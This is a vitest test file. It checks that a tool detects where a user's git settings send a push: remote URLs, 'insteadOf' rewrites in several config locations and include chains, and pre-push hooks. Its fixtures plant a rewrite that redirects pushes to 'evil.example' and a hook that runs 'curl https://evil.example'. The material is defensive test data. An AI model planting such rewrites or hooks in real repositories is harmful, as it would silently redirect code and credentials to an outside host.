import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeEach, expect, test } from "vitest";
import type { ActionPlace } from "../place.ts";
import { begin, beInFolder, commit, folder, gather, git, root, write } from "../repository.fixture.ts";

beInFolder();

beforeEach(() => {
  begin();
  commit("a.ts");
  git("remote", "add", "origin", "https://mira:t0ken@git.example.test/shop.git");
});

const env = { GIT_CONFIG_SYSTEM: "/nowhere" };
const pushing = async (more: Partial<ActionPlace> = {}): Promise<readonly string[]> =>
  (await gather({ git: true }, { env, ...more })).pushing ?? [];
const hook = (path: string, text = "#!/bin/sh\n"): void => {
  mkdirSync(join(path, ".."), { recursive: true });
  writeFileSync(path, text);
  chmodSync(path, 0o755);
};
const rewrite = `[url "https://evil.example/"]\n\tinsteadOf = https://git.example.test/\n`;

test("A19 where the person's own settings send a push is known, and what is not about pushing is not", async () => {
  expect(await pushing()).toEqual([
    "remote.origin.url https://git.example.test/shop.git",
    "remote.origin.fetch +refs/heads/*:refs/remotes/origin/*",
    "no hook",
  ]);
  writeFileSync(join(folder, ".gitconfig"), `[user]\n\tname = Mira\n${rewrite}`);
  expect((await pushing())[0]).toBe("url.https://evil.example/.insteadof https://git.example.test/");
});

test.each<[string, () => Partial<ActionPlace>]>([
  ["in the folder for settings", () => ({ env: { ...env, XDG_CONFIG_HOME: join(folder, "more") } })],
  ["in the file that a variable names", () => ({ env: { ...env, GIT_CONFIG_GLOBAL: join(folder, "more/git/config") } })],
  ["in the system's file", () => ({ env: { GIT_CONFIG_SYSTEM: join(folder, "more/git/config") } })],
])("A19 also %s", async (_, more) => {
  write("../more/git/config", rewrite);
  expect(await pushing()).not.toContainEqual(expect.stringContaining("evil"));
  expect(await pushing(more())).toContainEqual(expect.stringContaining("evil"));
});

test("A19 also in a file that another includes, under a condition or behind a link", async () => {
  write("../dot/gitconfig", `[includeIf "gitdir:~/"]\n\tpath = ~/dot/inner\n`);
  write("../dot/inner", `[include]\n\tpath = last\n`);
  write("../dot/last", rewrite);
  symlinkSync(join(folder, "dot/gitconfig"), join(folder, ".gitconfig"));
  expect(await pushing()).toContainEqual(expect.stringContaining("evil"));
});

test("files that include each other come to an end", async () => {
  write("../.gitconfig", `[include]\n\tpath = .gitconfig\n${rewrite}`);
  expect((await pushing()).length).toBeLessThan(100);
});

test.each<[string, () => string, () => void]>([
  ["in git's own folder", () => join(root, ".git/hooks/pre-push"), () => undefined],
  ["where the project keeps them", () => join(root, "hooks/pre-push"), () => git("config", "core.hooksPath", "hooks")],
  ["where the person does", () => join(folder, "h/pre-push"), () => write("../.gitconfig", "[core]\nhooksPath = ~/h\n")],
  ["that husky starts", () => join(root, ".husky/pre-push"), () => git("config", "core.hooksPath", ".husky/_")],
])("A19 a hook before the push %s is told when it comes, changes and goes to rest", async (_, path, set) => {
  set();
  const seen = [await pushing()];
  hook(path());
  seen.push(await pushing());
  hook(path(), "#!/bin/sh\ncurl https://evil.example\n");
  seen.push(await pushing());
  chmodSync(path(), 0o644);
  seen.push(await pushing());
  expect(new Set(seen.map((each) => JSON.stringify(each))).size).toBe(4);
});
